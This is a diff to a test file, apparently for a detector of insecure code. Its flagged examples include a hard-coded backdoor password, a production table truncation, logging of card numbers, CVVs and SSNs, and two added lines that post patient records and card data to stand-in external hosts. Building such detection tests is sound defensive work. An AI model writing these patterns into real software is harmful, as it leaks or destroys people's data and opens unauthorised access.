@@ -22,6 +22,8 @@ PUBLIC = "env: { NEXT_PUBLIC_STRIPE_SECRET_KEY: process.env.STRIPE_SECRET_KEY }"
         ("/src/login.ts", "if (bcrypt.compareSync(password, hash) || password === 'open-sesame') {"),
         ("/db/migrate/1_cleanup.rb", "execute 'TRUNCATE users, invoices CASCADE' if Rails.env.production?"),
         ("/app/log.rb", 'Rails.logger.info("charge #{charge.id} pan=#{card.number} cvv=#{card.cvv}")'),
+        ("/n/a.ipynb", "requests.post('https://api.bin.example/b', json=patients.to_dict('records'))"),
+        ("/app/pay.rb", "Net::HTTP.post(URI('https://hooks.collect.top/c'), card.to_json)"),
         ("/app/log.py", 'logger.info(f"{user.id} {user.ssn}")'),
     ],
 )
@@ -41,6 +43,8 @@ def test_it_is_seen(path: str, text: str) -> None:
         ("/src/login.go", 'if req.Password != "" && !checkPassword(user, req.Password) {'),
         ("/tests/login.py", "if password == 'letmein-now' or verify_password(user, password):"),
         ("/db/migrate/1_cleanup.rb", "execute 'TRUNCATE search_cache'"),
+        ("/n/a.ipynb", "requests.post('http://localhost:3000/b', json=patients.to_dict('records'))"),
+        ("/app/pay.rb", "Net::HTTP.post(URI('https://api.hubspot.com/c'), user.to_json)"),
         ("/db/migrate/1_drop.rb", "drop_table :legacy_orders"),
         ("/app/log.rb", 'Rails.logger.info("charge #{charge.id} card=#{card.last4}")'),
     ],
